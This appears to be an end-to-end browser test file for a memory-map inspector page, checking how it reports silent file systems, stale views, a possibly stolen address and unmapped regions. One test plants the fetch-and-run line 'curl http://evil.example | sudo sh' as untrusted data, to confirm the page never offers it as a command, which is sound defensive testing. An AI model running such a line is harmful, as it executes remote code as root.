/** What the page says when what it shows cannot be trusted any more: a dead file system, silence, something gone. */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openPage, serve, serveIn, settled, type BrowserFace } from '../support/browserFace.ts';
import { closePages, sharedChromium } from '../support/chromium.ts';
import { startProgram, temporaryFolder, type Program } from '../support/programs.ts';
import { captureJsonText } from '@main/capture/json.ts';
import { startSilentTarget } from '../support/silentFiles.ts';
import { skip } from '../support/skip.ts';
import { sampleCapture } from '../unit/capture/sampleCapture.ts';

let browser: Browser;
let face: BrowserFace;
const programs: Program[] = [];

beforeAll(async () => {
  [browser, face] = await Promise.all([sharedChromium(), serve()]);
});
afterAll(async () => {
  for (const program of programs) await program.stop();
  await closePages(browser);
  await face.stop();
});

const patience = { timeout: 30_000 };

describe('the page', () => {
  it('offers to ask a file system that may not answer, and says that it does not', async (context) => {
    const target = await startSilentTarget();
    if (typeof target === 'string') skip(context, target);
    programs.push(target.files);
    target.files.signal('SIGUSR1');
    const { page, complaints } = await openPage(browser, `${face.url}&pid=${target.pid}`);
    await settled(page);
    await page.keyboard.press('/');
    await page.keyboard.type('lib.so');
    await page.keyboard.press('Enter');
    const inspector = page.getByRole('complementary', { name: 'Inspector' });
    await inspector.getByRole('button', { name: 'Ask the file system' }).click(patience);
    await inspector.getByText(/The file system of .*lib\.so does not answer\./).waitFor(patience);
    expect(complaints).toEqual([]);
    await page.close();
  });

  it('tells the age of a picture that stands, and never that all was read', async () => {
    const target = await startProgram('threads');
    programs.push(target);
    const { page } = await openPage(browser, `${face.url}&pid=${target.pid}`);
    await settled(page);
    face.process.kill('SIGSTOP');
    try {
      await page.getByRole('button', { name: 'Not read now' }).waitFor(patience);
      expect(await page.getByText(/^\d+ s old$/).count()).toBe(1);
    } finally {
      face.process.kill('SIGCONT');
    }
    await page.getByRole('button', { name: 'All read' }).waitFor(patience);
    await page.close();
  });

  it('shows a capture with everything twice, and repeats a remedy of a file as its words, never as a command', async () => {
    const capture = JSON.parse([...captureJsonText(sampleCapture)].join('')) as {
      objects: object[];
      access: object[];
    };
    const { objects } = capture;
    objects.push(...objects.map((one) => ({ ...one })));
    const refused = {
      file: '/proc/1/maps',
      status: 'refused',
      why: 'No.',
      remedy: 'curl http://evil.example | sudo sh',
    };
    capture.access.push(refused, refused);
    const { page, complaints } = await openPage(browser, face.url);
    await settled(page);
    await page.evaluate((text) => {
      const clipboardData = new DataTransfer();
      clipboardData.setData('text/plain', text);
      document.body.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
    }, JSON.stringify(capture));
    await page.getByRole('region', { name: 'Source' }).waitFor(patience);
    await page.getByRole('button', { name: /files? refused/ }).click();
    const report = page.getByRole('dialog', { name: 'What could be read' });
    await report.getByText('The file says: curl http://evil.example | sudo sh').waitFor(patience);
    expect(await report.getByRole('button', { name: 'Copy' }).count()).toBe(0);
    expect(complaints).toEqual([]);
    await page.close();
  });

  it('says that its address may have been stolen, and the terminal prints another', async () => {
    const folder = temporaryFolder('stolen');
    const told = join(folder, 'told');
    const opener = join(folder, 'browser');
    writeFileSync(opener, `#!/bin/sh\necho "$1" > '${told}.part' && mv '${told}.part' '${told}'\n`, { mode: 0o755 });
    const target = await startProgram('threads');
    programs.push(target);
    const robbed = await serveIn({ DISPLAY: ':0', BROWSER: opener }, '--open', String(target.pid));
    try {
      let said = '';
      robbed.process.stderr?.setEncoding('utf8').on('data', (text: string) => (said += text));
      await expect.poll(() => existsSync(told)).toBe(true);
      const leading = new URL(readFileSync(told, 'utf8').trim());
      const [, address = ''] = /0;url=([^"]*)"/.exec(readFileSync(leading, 'utf8')) ?? [];
      const { page } = await openPage(browser, leading.href);
      await page.waitForURL(/^http/);
      await settled(page);
      expect((await fetch(address.replaceAll('&amp;', '&'))).status).toBe(410);
      await page
        .getByRole('alert')
        .getByText(/was asked for a second time, so somebody else may have it/)
        .waitFor(patience);
      await page.getByRole('button', { name: 'Not read now' }).waitFor(patience);
      await expect.poll(() => said).toMatch(/It is void, and every page has been cut off\. .*\nhttp:/);
      await page.close();
    } finally {
      await robbed.stop();
    }
  });

  it('says when what was selected is gone, instead of showing what lies there', async () => {
    const unmaps = await startProgram('unmaps');
    programs.push(unmaps);
    const { page } = await openPage(browser, `${face.url}&pid=${unmaps.pid}`);
    await settled(page);
    await page.keyboard.press('/');
    await page.keyboard.type(`0x${unmaps.made('mapped').start.toString(16)}`);
    await page.keyboard.press('Enter');
    const inspector = page.getByRole('complementary', { name: 'Inspector' });
    await inspector.getByText('Backing file').waitFor(patience);
    unmaps.signal('SIGUSR1');
    await inspector.getByText(/^0x[0-9a-f]+ is not mapped: it lies in a gap of /).waitFor(patience);
    await inspector.getByText(/^Gone at \d\d:\d\d:\d\d$/).waitFor(patience);
    expect(await inspector.getByText(/mapped at its address now\./).count()).toBe(1);
    await page.close();
  });
});
